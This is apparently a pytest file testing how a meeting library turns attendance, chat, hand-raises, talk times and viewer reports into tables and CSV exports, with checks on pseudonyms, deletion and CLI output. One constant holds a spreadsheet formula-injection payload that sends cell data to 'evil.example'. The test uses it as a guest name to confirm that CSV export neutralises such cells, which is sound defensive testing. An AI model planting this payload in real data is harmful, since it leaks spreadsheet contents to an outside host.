"""Records end to end: a real meeting, and what `nm.records` gives of it as tables."""

from __future__ import annotations

import asyncio
import csv
import json
import stat
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import nanomeet_widget as nm
from nanomeet_widget.services import LocalServer
from tests.asking import get
from tests.conftest import RunningServer
from tests.contract.bots import until
from tests.contract.sockets import broadcasting, join, run, watch
from tests.contract.test_cli import at, facts, nanomeet
from tests.unit.server.clips import clip

EVIL = '=HYPERLINK("http://evil.example?"&A1,"Ada")'


def service_of(server: RunningServer) -> LocalServer:
    return LocalServer(server.url, api_key=server.api_key)


async def lesson(server: RunningServer, token: str) -> None:
    """Have a meeting of two, who raise a hand, speak and write."""
    teacher, _ = await join(server, token, name="Teacher")
    guest, _ = await join(server, server.invite(token), name=EVIL)
    await guest.send("raise_hand", raised=True, ref=1)
    await guest.expect("ack")
    await guest.send("react", reaction="heart")
    await guest.send("send_chat", text="hello", ref=2)
    await guest.expect("ack")
    await guest.send(
        "send_chat", text="psst", to=(await teacher.expect("chat_message"))["sender"], ref=3
    )
    guest.close()
    await guest.closed()
    teacher.close()
    await teacher.closed()


async def tables(records: nm.Records) -> dict[str, nm.Table]:
    """Return all tables of a meeting that is over."""
    for _ in range(150):
        if all(row["ended"] is not None for row in records.sessions()):
            break
        await asyncio.sleep(0.2)
    else:
        raise AssertionError("the meeting is not over")
    kinds = ("sessions", "attendance", "hands", "talk", "chat", "polls", "votes", "reactions")
    return {kind: records.table(kind) for kind in (*kinds, "viewers")}


def test_everything_that_was_kept_is_in_tables(server: RunningServer, tmp_path: Path) -> None:
    service = service_of(server)
    room = nm.create_room("KeepsAll", records="all", records_days=7, service=service)

    async def scenario() -> None:
        before = datetime.now(timezone.utc)
        await lesson(server, room.token)
        records = nm.records(room.token, service=service)
        found = await tables(records)
        (session,) = found["sessions"]
        assert (session["people"], session["days"]) == (2, 7)
        assert set(session["kept"]) >= {"attendance", "hands", "talk", "chat", "reactions"}
        stays = found["attendance"]
        assert [row["name"] for row in stays] == ["Teacher", EVIL]
        assert [row["moderator"] for row in stays] == [True, False]
        for row in stays:
            assert before - timedelta(seconds=1) <= row["joined"] <= row["left"]
            assert row["seconds"] == pytest.approx(
                (row["left"] - row["joined"]).total_seconds(), abs=0.01
            )
        assert [row["name"] for row in found["hands"]] == [EVIL]
        assert [row["reaction"] for row in found["reactions"]] == ["heart"]
        assert [row["text"] for row in found["chat"]] == ["hello"]
        for kind, table in found.items():
            assert table.note == "", kind
            frame = table.to_pandas()
            assert list(frame.columns) == table.columns
            assert table.to_polars().columns == table.columns
            assert list(pd.DataFrame(table).columns) == (table.columns if table else [])
            # No table shows what opens a room.
            shown = repr(table) + table._repr_html_() + json.dumps(table, default=str)
            assert room.token not in shown
            path = table.to_csv(tmp_path / f"{kind}.csv")
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
            with path.open(newline="", encoding="utf-8") as file:
                head, *rows = list(csv.reader(file))
            assert head == table.columns
            assert len(rows) == len(table)
            assert not any(
                cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row
            )
        assert records.attendance("all") == stays
        assert records.attendance(session) == stays
        assert records.attendance(session["session"]) == stays
        with pytest.raises(nm.ServiceError, match="no session"):
            records.attendance("0123456789abcdef")

    run(scenario())


def test_a_room_keeps_attendance_if_no_one_says_anything(server: RunningServer) -> None:
    service = service_of(server)
    room = nm.create_room("KeepsUsual", service=service)
    assert policy(server, room.token) == {"kinds": ["attendance"], "days": 30}

    async def scenario() -> None:
        await lesson(server, room.token)
        found = await tables(nm.records(room.token, service=service))
        assert [row["name"] for row in found["attendance"]] == ["Teacher", EVIL]
        for kind in ("hands", "talk", "chat", "polls", "votes", "reactions", "viewers"):
            assert found[kind] == []
            assert "not kept" in found[kind].note, kind
            assert found[kind].columns[0] == "session"

    run(scenario())


def test_a_room_that_keeps_nothing_says_so(server: RunningServer) -> None:
    service = service_of(server)
    room = nm.create_room("KeepsNothing", records="none", service=service)
    assert policy(server, room.token)["kinds"] == []

    async def scenario() -> None:
        await lesson(server, room.token)
        records = nm.records(room.token, service=service)
        for _ in range(150):
            if not records.sessions():
                break
            await asyncio.sleep(0.2)
        assert records.sessions() == []
        assert records.attendance() == []
        assert records.attendance().note

    run(scenario())


def policy(server: RunningServer, token: str) -> dict[str, Any]:
    """Return what a page is told before it joins."""
    answer = get(f"{server.url}/records/policy", headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def test_a_person_is_forgotten_and_pseudonyms_hide_the_others(server: RunningServer) -> None:
    service = service_of(server)
    room = nm.create_room("Forgets", records="all", service=service)

    async def scenario() -> None:
        await lesson(server, room.token)
        records = nm.records(room.token, service=service)
        await tables(records)
        hidden = records(pseudonyms=True)
        assert [row["name"] for row in hidden.attendance()] == ["Person 1", "Person 2"]
        assert hidden.attendance().columns == [
            *("session", "name", "moderator", "joined", "left", "seconds"),
        ]
        guest = records.attendance()[1]
        assert guest["person"] not in repr(hidden.attendance())
        assert records.forget(guest) > 0
        assert [row["name"] for row in records.attendance()] == ["Teacher"]
        assert [*records.hands(), *records.chat(), *records.reactions()] == []

    run(scenario())


def test_a_bot_s_records_are_those_of_its_meeting(server: RunningServer) -> None:
    async def scenario() -> None:
        service = service_of(server)
        room = nm.create_room("BotRecords", records="all", service=service)
        async with nm.Bot(room.token, display_name="Helper", service=service) as bot:
            # The server is another process: it answers while this loop waits.
            assert [row["name"] for row in bot.attendance()] == ["Helper"]
            assert [row["left"] for row in bot.records.attendance()] == [None]
            await bot.raise_hand(True)
            assert [row["name"] for row in bot.raised_hands()] == ["Helper"]
        guest = nm.Bot(server.invite(room.token), display_name="Guest", service=service)
        async with guest:
            # What it saw itself.
            assert [row["name"] for row in guest.attendance()] == ["Guest"]
            with pytest.raises(nm.PermissionDeniedError):
                guest.records.attendance()

    run(scenario())


def test_talk_times_reach_a_moderators_program(server: RunningServer) -> None:
    async def scenario() -> None:
        service = service_of(server)
        room = nm.create_room("Talks", records=["attendance", "talk"], service=service)
        speaker, welcome = await join(server, room.token, name="Speaker")
        kept = await speaker.expect("records_kept")
        assert kept["kinds"] == ["attendance", "talk"]
        heard: list[nm.events.Event] = []
        async with nm.Bot(room.token, display_name="Helper", service=service) as bot:
            bot.on("talk_times_changed", heard.append)
            await speaker.send("media", audio=True, video=False, screen=False)
            await speaker.send("speaking", speaking=True)
            own = welcome["own"]["id"]
            await until(lambda: bot.talk_times.get(own, 0) > 1, True)
            await speaker.send("speaking", speaking=False)
            assert heard
        assert bot.talk_times == {}
        (row,) = nm.records(room.token, service=service).talk()
        assert (row["name"], row["seconds"] > 1) == ("Speaker", True)

    run(scenario())


def test_a_view_s_report_is_kept_without_a_name(server: RunningServer) -> None:
    async def scenario() -> None:
        service = service_of(server)
        room = nm.create_room("Views", records=["viewers"], streamname="views-1", service=service)
        async with broadcasting(server, room.token) as (page, ingest, _):
            await ingest.send_all(clip(1).encoded())
            await page.expect("ack")
            viewer, state = await watch(server, "views-1")
            assert state["state"] == "live"
            assert (await viewer.expect("view_kept"))["days"] == 30
            await viewer.send("playback", startup=0.75, halts=2, halted=3.5)
            await viewer.send("ping", t=1)
            await viewer.expect("pong")
            records = nm.records(room.token, service=service)
            (row,) = records.viewers()
            assert (row["startup"], row["halts"], row["halted"]) == (0.75, 2, 3.5)
            assert row["ended"] is None
            assert set(row) == {
                *("session", "began", "ended", "startup", "halts", "halted"),
            }

    run(scenario())


def test_a_viewer_of_a_room_that_keeps_no_views_is_not_asked(server: RunningServer) -> None:
    async def scenario() -> None:
        token = server.room("NoViews", streamname="no-views")
        async with broadcasting(server, token) as (page, ingest, _):
            await ingest.send_all(clip(1).encoded())
            await page.expect("ack")
            viewer, _ = await watch(server, "no-views")
            await viewer.send("playback", startup=0.75, halts=2, halted=3.5)
            await viewer.send("ping", t=1)
            while (told := await viewer.receive()) != {"type": "pong", "t": 1}:
                assert not isinstance(told, dict) or told["type"] != "view_kept"
            assert nm.records(token, service=service_of(server)).viewers() == []

    run(scenario())


def test_the_command_line_shows_saves_and_forgets(server: RunningServer, tmp_path: Path) -> None:
    made = facts(
        nanomeet(
            *("room", "Cli_records", "--records", "attendance,chat", "--records-days", "3"),
            *("--json",),
            **at(server),
        )
    )
    token = made["token"]
    assert policy(server, token) == {"kinds": ["attendance", "chat"], "days": 3}
    asyncio.run(lesson(server, token))
    shown = nanomeet("records", stdin=token, **at(server))
    assert shown.returncode == 0, shown.stderr
    assert "Attendance (2 rows)" in shown.stdout
    rows = facts(nanomeet("records", "chat", "--json", stdin=token, **at(server)))["rows"]
    assert [row["text"] for row in rows] == ["hello"]
    path = tmp_path / "kept.csv"
    saved = nanomeet("records", "--csv", str(path), NANOMEET_TOKEN=token, **at(server))
    assert saved.returncode == 0, saved.stderr
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    person = rows[0]["person"]
    forgotten = facts(nanomeet("records", "--forget", person, "--json", stdin=token, **at(server)))
    assert forgotten["forgotten"] > 0
    hidden = nanomeet("records", "--pseudonyms", stdin=token, **at(server))
    assert "Person 1" in hidden.stdout
    assert "Teacher" not in hidden.stdout
    refused = nanomeet("records", stdin=server.invite(token), **at(server))
    assert (refused.returncode, "participant's" in refused.stderr) == (1, True)
    wrong = nanomeet("room", "Cli_records", "--records", "polles", **at(server))
    assert "did you mean 'polls'" in wrong.stderr
